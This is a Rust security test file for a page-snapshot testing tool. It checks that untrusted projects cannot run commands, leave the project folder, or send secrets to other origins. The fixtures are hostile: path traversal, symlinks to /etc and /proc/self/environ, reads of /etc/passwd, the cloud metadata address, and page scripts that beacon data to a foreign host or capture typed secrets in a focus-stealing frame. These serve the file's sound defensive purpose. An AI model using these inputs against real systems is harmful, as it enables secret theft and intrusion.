//! Where requests and secrets of a page may go, and what a project that is not trusted may do.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::path::Path;
use std::sync::{Arc, Mutex};

use libtest_mimic::Trial;

use crate::attacks::{all, command, project, run, write};

pub(crate) fn tests() -> Vec<Trial> {
    tests![
        an_untrusted_project_runs_nothing_and_leads_nowhere,
        the_environment_is_no_file,
        secrets_go_to_the_sites_own_origin_alone,
        no_secret_is_typed_into_a_frame_of_another_origin,
        an_untrusted_page_reaches_its_own_origin_alone,
        a_variable_where_none_is_read_is_an_error,
    ]
}

fn an_untrusted_project_runs_nothing_and_leads_nowhere() {
    for (file, text, says) in [
        (
            "ariasnap.yml",
            "site: {command: touch owned, url: \"http://127.0.0.1:1/\"}\n",
            "site.command",
        ),
        (
            "ariasnap.yml",
            "site: {url: \"http://169.254.169.254/\"}\n",
            "site.url",
        ),
        ("ariasnap.yml", "site: {dir: /etc}\n", "site.dir leads out"),
        ("ariasnap.yml", "site: {dir: ../..}\n", "site.dir leads out"),
        ("ariasnap.yml", "browser: {path: ./owned}\n", "browser.path"),
        (
            "ariasnap.yml",
            "browser: {endpoint: \"ws://127.0.0.1:1/\"}\n",
            "browser.endpoint",
        ),
        ("ariasnap.yml", "snapshots: /tmp\n", "snapshots leads out"),
        (
            "specs/a.yml",
            "html: x\nsteps:\n- evaluate: fetch('/')\n",
            "evaluate",
        ),
        (
            "specs/a.yml",
            "html: x\ninit-script: fetch('/')\n",
            "init-script",
        ),
        (
            "specs/a.yml",
            "sitemap: http://127.0.0.1:1/sitemap.xml\n",
            "`sitemap` leads to",
        ),
        (
            "specs/a.yml",
            "crawl: http://127.0.0.1:1/\n",
            "`crawl` leads to",
        ),
        ("specs/a.yml", "html: x\nsource: /etc/passwd\n", "source"),
        (
            "specs/a.yml",
            "html: <input type=file>\nsteps:\n- upload: {css=input: /etc/passwd}\n",
            "upload",
        ),
        (
            "specs/a.yml",
            "html: x\nheaders: {A: \"${HOME}\"}\n",
            "variable",
        ),
        (
            "specs/a.yml",
            "html: x\ntrusted-origins: [\"http://evil.test\"]\n",
            "trusted-origins",
        ),
    ] {
        let folder = project(&[("specs/a.yml", "html: <p>x</p>\n"), (file, text)]);
        let output = run(folder.path(), &["test", "--untrusted"]);
        assert_eq!(output.status.code(), Some(2), "{text}: {}", all(&output));
        assert!(all(&output).contains(says), "{text}: {}", all(&output));
        assert!(!folder.path().join("owned").exists());
        assert!(!folder.path().join("snapshots").exists());
    }
    let elsewhere = project(&[("private.yml", "s3cret: value\n")]);
    let private = elsewhere.path().join("private.yml");
    for (link, to, says) in [
        (
            "specs/etc",
            Path::new("/etc"),
            "is a link out of the project",
        ),
        ("specs/b.yml", &private, "is a link out of the project"),
        (
            "sessions/login.yml",
            &private,
            "is a link out of the project",
        ),
        ("ariasnap.yml", &private, "the configuration is a link"),
        (".ariasnap", elsewhere.path(), "leads out of the project"),
        ("snapshots", elsewhere.path(), "leads out of the project"),
    ] {
        let folder = project(&[("specs/a.yml", "html: <p>x</p>\n")]);
        let place = folder.path().join(link);
        fs::create_dir_all(place.parent().expect("a folder")).expect("made");
        if link.starts_with("sessions") {
            write(folder.path(), "ariasnap.yml", "sessions: sessions\n");
            write(
                folder.path(),
                "specs/a.yml",
                "html: <p>x</p>\nsession: login\n",
            );
        }
        std::os::unix::fs::symlink(to, place).expect("a link");
        let output = run(folder.path(), &["test", "--untrusted"]);
        let text = all(&output);
        assert_eq!(output.status.code(), Some(2), "{link}: {text}");
        assert!(
            text.contains(says) && !text.contains("s3cret"),
            "{link}: {text}"
        );
    }
    let left = fs::read_dir(elsewhere.path()).expect("a folder").count();
    assert_eq!(left, 1, "nothing was written there");
}

/// A link of a repository to the environment, whose secrets would be printed as lines that are wrong.
fn the_environment_is_no_file() {
    for place in ["ariasnap.yml", "specs/a.yml", "sessions/login.yml"] {
        let folder = project(&[("specs/b.yml", "html: <p>x</p>\nsession: login\n")]);
        if !place.starts_with("ariasnap") {
            write(folder.path(), "ariasnap.yml", "sessions: sessions\n");
        }
        let link = folder.path().join(place);
        fs::create_dir_all(link.parent().expect("a folder")).expect("made");
        std::os::unix::fs::symlink("/proc/self/environ", link).expect("a link");
        for arguments in [&["check"][..], &["test"], &["status"]] {
            let mut command = command(folder.path(), arguments);
            let output = command.env("SECRET", "s3cret-value").output().expect("run");
            let text = all(&output);
            assert!(!text.contains("s3cret"), "{place} {arguments:?}: {text}");
            assert!(!output.status.success(), "{place} {arguments:?}: {text}");
        }
    }
}

/// A server that keeps the heads of its requests, and answers as it is told.
struct Recorder {
    address: String,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Recorder {
    fn start(answer: impl Fn(&str) -> String + Send + 'static) -> Recorder {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let address = listener.local_addr().expect("an address").to_string();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&heads);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut stream: TcpStream = stream;
                let mut head = Vec::new();
                let mut byte = [0];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                let path = head.split(' ').nth(1).unwrap_or_default().to_owned();
                let answer = answer(&path);
                kept.lock().expect("kept").push(head);
                let _ = stream.write_all(answer.as_bytes());
            }
        });
        Recorder { address, heads }
    }

    fn heads(&self) -> String {
        self.heads.lock().expect("kept").join("\n").to_lowercase()
    }
}

fn html(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\naccess-control-allow-origin: *\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{body}",
        body.len()
    )
}

fn secrets_go_to_the_sites_own_origin_alone() {
    let other = Recorder::start(|_| html("<p>other</p><input aria-label=Name>"));
    let foreign = other.address.clone();
    let own = Recorder::start(move |path| match path {
        "/redirect" => format!(
            "HTTP/1.1 302 Found\r\nlocation: http://{foreign}/redirected\r\nconnection: close\r\ncontent-length: 0\r\n\r\n"
        ),
        "/" => html(&format!(
            "<p>own</p><img src=http://{foreign}/image><script src=http://{foreign}/script></script>\
             <iframe src=http://{foreign}/frame></iframe><img src=/own-image><img src=/redirect>\
             <script>fetch('http://{foreign}/fetched').catch(() => 0)</script>"
        )),
        _ => html("<p>x</p>"),
    });
    let config = format!("site: {{url: \"http://{}/\"}}\n", own.address);
    let spec = "url: /\nheaders: {X-Secret: \"${SECRET}\"}\n";
    let folder = project(&[("ariasnap.yml", &config), ("specs/a.yml", spec)]);
    let secret = |arguments: &[&str]| {
        let mut command = command(folder.path(), arguments);
        command.env("SECRET", "s3cret-value").output().expect("run")
    };
    let output = secret(&["test"]);
    assert!(
        own.heads().matches("x-secret: s3cret-value").count() >= 3,
        "{}{}",
        own.heads(),
        all(&output)
    );
    assert!(own.heads().contains("/own-image"), "{}", own.heads());
    assert!(other.heads().contains("/redirected"), "{}", other.heads());
    assert!(other.heads().contains("/fetched"), "{}", other.heads());
    assert!(!other.heads().contains("s3cret"), "{}", other.heads());
    // Where the spec trusts it, it gets them.
    let trusting = format!("{spec}trusted-origins: [\"http://{}\"]\n", other.address);
    write(folder.path(), "specs/a.yml", &trusting);
    secret(&["test"]);
    assert!(
        other.heads().contains("x-secret: s3cret-value"),
        "{}",
        other.heads()
    );
    // Typed into a page of another origin.
    let leak = format!(
        "url: /plain\nallow: [other-origin]\nsteps:\n- goto: http://{}/form\n- fill: {{textbox \"Name\": \"${{SECRET}}\"}}\n",
        other.address
    );
    write(folder.path(), "specs/a.yml", &leak);
    let output = secret(&["test"]);
    assert!(
        all(&output).contains("a secret is for the site's own origin"),
        "{}",
        all(&output)
    );
}

fn no_secret_is_typed_into_a_frame_of_another_origin() {
    let field = "<input aria-label=Other oninput=\"fetch('/typed?' + this.value)\">";
    // It takes the focus whenever it can.
    let other = Recorder::start(move |_| {
        html(&format!(
            "{field}<script>const field = document.querySelector('input'); field.onblur = () => field.focus(); field.focus()</script>"
        ))
    });
    let page = format!(
        "<input aria-label=Own><iframe src=http://{}/frame></iframe>",
        other.address
    );
    let folder = project(&[
        ("ariasnap.yml", "site: {dir: site}\n"),
        ("site/index.html", &page),
        (
            "specs/own.yml",
            "url: /\nsteps:\n- fill: {textbox \"Own\": \"${SECRET}\"}\n",
        ),
        (
            "specs/other.yml",
            "url: /\nsteps:\n- fill: {textbox \"Other\": \"${SECRET}\"}\n",
        ),
    ]);
    let mut command = command(folder.path(), &["test"]);
    let output = command.env("SECRET", "s3cret-value").output().expect("run");
    let text = all(&output);
    assert!(
        text.contains("a secret is for the site's own origin"),
        "{text}"
    );
    assert!(!other.heads().contains("s3cret"), "{}", other.heads());
    let own = folder.path().join("snapshots/own/page.aria.yml.new");
    let own = fs::read_to_string(own).expect("a snapshot");
    let field = own.lines().find(|line| line.contains("textbox \"Own\""));
    assert!(
        field.is_some_and(|line| line.ends_with("[masked]\"")),
        "{own}"
    );
}

fn an_untrusted_page_reaches_its_own_origin_alone() {
    let other = Recorder::start(|_| html("<p>other</p>"));
    let datagrams = UdpSocket::bind(&*other.address).expect("the same port");
    datagrams.set_nonblocking(true).expect("set");
    let worker = "new WebSocket('ws://HOST/socket'); fetch('http://HOST/worker', {mode: 'no-cors'}).catch(() => 0);";
    let page = r#"<link rel=preconnect href="http://HOST/"><link rel=prefetch href="http://HOST/prefetch">
        <p>own</p><img src=http://HOST/image><video src=http://HOST/video></video>
        <iframe srcdoc="<script>new WebSocket('ws://HOST/frame')</script>"></iframe>
        <script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://HOST/ahead"], "eagerness": "immediate"}]}</script>
        <script>
        fetch('http://HOST/fetched', {mode: 'no-cors'}).catch(() => 0);
        navigator.sendBeacon('http://HOST/beacon', 'x');
        new WebSocket('ws://HOST/socket');
        const url = URL.createObjectURL(new Blob([`WORKER`]));
        new Worker(url);
        navigator.serviceWorker.register('/worker.js').catch(() => 0);
        const form = Object.assign(document.createElement('form'), {action: 'http://HOST/form', target: '_blank'});
        document.body.append(form);
        setTimeout(() => form.submit(), 10);
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});
        peer.createDataChannel('x');
        peer.createOffer().then(offer => peer.setLocalDescription(offer));
        try { new WebTransport('https://HOST/transport').ready.catch(() => 0); } catch { }
        </script>"#;
    let of_host = |text: &str| {
        text.replace("WORKER", worker)
            .replace("HOST", &other.address)
    };
    let folder = project(&[
        ("ariasnap.yml", "site: {dir: site}\n"),
        ("site/index.html", &of_host(page)),
        (
            "site/shared.html",
            &of_host("<p>own</p><script>new SharedWorker('/worker.js')</script>"),
        ),
        ("site/worker.js", &of_host(worker)),
        (
            "specs/a.yml",
            "url: /\nallow: [failed-requests, script-errors]\nsettle: relaxed\n",
        ),
        (
            "specs/shared.yml",
            "url: /shared.html\nsettle: relaxed\ntimeout: 3s\n",
        ),
        (
            "specs/b.yml",
            &format!("url: http://{}/whole\n", other.address),
        ),
    ]);
    let output = run(folder.path(), &["test", "--untrusted"]);
    assert!(all(&output).contains("2 new"), "{}", all(&output));
    assert_eq!(other.heads(), "", "{}", all(&output));
    let error = datagrams.recv(&mut [0; 100]).expect_err("no datagram");
    assert_eq!(error.kind(), std::io::ErrorKind::WouldBlock);
}

fn a_variable_where_none_is_read_is_an_error() {
    for spec in [
        "url: /${PAGE}\n",
        "html: x\nsnapshots:\n- main: button \"${NAME}\"\n",
        "html: x\nsteps:\n- click: button \"${NAME}\"\n",
        "html: x\nsteps:\n- fill: {\"textbox \\\"${NAME}\\\"\": a}\n",
        "html: x\nlocale: ${UNSET_LOCALE}\n",
    ] {
        let folder = project(&[("specs/a.yml", spec)]);
        for arguments in [&["check"][..], &["test"]] {
            let output = run(folder.path(), arguments);
            assert_eq!(output.status.code(), Some(2), "{spec}: {}", all(&output));
            assert!(
                all(&output).contains("needs the variable"),
                "{spec}: {}",
                all(&output)
            );
        }
    }
    let folder = project(&[
        ("ariasnap.yml", "site: {url: \"${BASE_URL}\"}\n"),
        ("specs/a.yml", "html: x\n"),
    ]);
    let output = run(folder.path(), &["check"]);
    assert!(
        all(&output).contains("needs the variable `BASE_URL`"),
        "{}",
        all(&output)
    );
    // Scripts and markup have a `${..}` of their own.
    let fine = "html: \"<p>${x}</p>\"\nsteps:\n- evaluate: document.title = `${location}`\n";
    let folder = project(&[("specs/a.yml", fine)]);
    let output = run(folder.path(), &["check"]);
    assert_eq!(output.status.code(), Some(0), "{}", all(&output));
}
